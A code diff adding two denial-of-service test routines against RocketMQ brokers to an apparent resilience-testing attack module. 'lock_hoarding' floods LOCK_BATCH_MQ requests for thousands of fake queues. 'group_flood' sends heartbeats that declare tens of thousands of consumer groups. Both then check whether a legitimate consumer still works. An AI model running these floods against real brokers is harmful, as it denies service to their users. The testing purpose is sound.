@@ -71,6 +71,8 @@ __all__ = [
     "slowloris", "start_at", "stream_reports",
     # issue 35
     "broker_name_takeover",
+    # issue 35, the broker's part
+    "group_flood", "lock_hoarding", "lock_request", "subscription_group_request",
 ]
 
 #: a 250-character group name ending in "/" (issue 9, point 11)
@@ -1120,4 +1122,88 @@ async def broker_name_takeover(namesrv: str, broker_name: str, *, fake_addr: str
         tally.answers["taken over"] += 1
     tally.note = tally.note or (f"master before {before}, after {after}; "
                                 f"{'TAKEN OVER' if taken else 'held'}")
+# ---- broker: queue locks and groups made by heartbeats (issue 35) ----------------------------
+
+
+def lock_request(group: str, client_id: str, queues: list[tuple[str, str, int]],
+                 *, code: int = RequestCode.LOCK_BATCH_MQ) -> RemotingCommand:
+    """LOCK_BATCH_MQ (or UNLOCK_BATCH_MQ) for ``queues`` as (topic, brokerName, queueId)."""
+    return RemotingCommand.request(code, body=json.dumps({
+        "consumerGroup": group, "clientId": client_id,
+        "mqSet": [{"topic": t, "brokerName": b, "queueId": q} for t, b, q in queues],
+    }).encode())
+
+
+def _locked(reply: RemotingCommand) -> int:
+    if reply.code != ResponseCode.SUCCESS or not reply.body:
+        return 0
+    return len(json.loads(reply.body).get("lockOKMQSet") or [])
+
+
+async def lock_hoarding(address: str, *, requests: int = 70, queues: int = 4096,
+                        broker_name: str = "broker-a", seconds: float = 60.0,
+                        prefix: str = "hoard") -> AttackOutcome:
+    """``requests`` LOCK_BATCH_MQ over one connection, each for ``queues`` made-up queues
+    under a new group and client id (a hoarder that would hold every lock the broker has);
+    then an orderly consumer on another connection locks four queues of its own group.
+    ``answers``: the replies by code, ``hoarded`` the locks the hoarder got, ``honest
+    locked`` those the consumer got (4 when the broker bounds the hoarder). The consumer
+    asks after the hoarding, which ``seconds`` bounds, even when that was cut short."""
+    tally = _Tally("lock hoarding", address)
+    with trio.move_on_after(seconds):
+        async with open_remoting_client(address) as hoarder:
+            tally.connections += 1
+            for i in range(requests):
+                mq = [(f"{prefix}T{i}", broker_name, q) for q in range(queues)]
+                reply = await hoarder.invoke(lock_request(f"{prefix}g{i}", f"{prefix}c{i}", mq),
+                                             10)
+                tally.frames_sent += 1
+                tally.answers[f"LOCK_BATCH_MQ:{code_name(reply.code)}"] += 1
+                tally.answers["hoarded"] += _locked(reply)
+    async with open_remoting_client(address) as honest:
+        tally.connections += 1
+        reply = await honest.invoke(lock_request(
+            f"{prefix}_orderly", f"{prefix}_orderly@1",
+            [(f"{prefix}Orders", broker_name, q) for q in range(4)]), 10)
+        tally.frames_sent += 1
+        tally.answers["honest locked"] += _locked(reply)
+    return tally.outcome()
+
+
+def subscription_group_request(group: str) -> RemotingCommand:
+    """UPDATE_AND_CREATE_SUBSCRIPTIONGROUP of ``group`` with RocketMQ's defaults."""
+    return RemotingCommand.request(RequestCode.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP,
+                                   body=json.dumps({"groupName": group}).encode())
+
+
+async def group_flood(address: str, *, heartbeats: int = 10, groups: int = 10_000,
+                      seconds: float = 60.0, prefix: str = "gflood") -> AttackOutcome:
+    """``heartbeats`` HEART_BEATs over one connection, each declaring ``groups`` new consumer
+    groups (a flood that would fill maxSubscriptionGroupNums); then an operator creates a
+    group (UPDATE_AND_CREATE_SUBSCRIPTIONGROUP) and a consumer on another connection
+    heartbeats and pulls as a member of it. ``answers``: the replies as
+    ``<request>:<code>``; the pull's SUCCESS (or PULL_NOT_FOUND, on a topic without
+    messages) means the group works. The operator's turn comes after the flood, which
+    ``seconds`` bounds, even when that was cut short."""
+    tally = _Tally("group flood", address)
+    with trio.move_on_after(seconds):
+        async with open_remoting_client(address) as flooder:
+            tally.connections += 1
+            for i in range(heartbeats):
+                names = [f"{prefix}{i}_{j}" for j in range(groups)]
+                reply = await flooder.invoke(heartbeat_request(f"{prefix}-c{i}", consumers=names),
+                                             30)
+                tally.frames_sent += 1
+                tally.answers[f"HEART_BEAT:{code_name(reply.code)}"] += 1
+    async with open_remoting_client(address) as operator:
+        tally.connections += 1
+        group = f"{prefix}_admin"
+        for kind, request in (
+            ("UPDATE_AND_CREATE_SUBSCRIPTIONGROUP", subscription_group_request(group)),
+            ("HEART_BEAT", heartbeat_request(f"{prefix}-member", consumers=[group])),
+            ("PULL_MESSAGE", pull_request(group=group)),
+        ):
+            reply = await operator.invoke(request, 10)
+            tally.frames_sent += 1
+            tally.answers[f"admin {kind}:{code_name(reply.code)}"] += 1
     return tally.outcome()
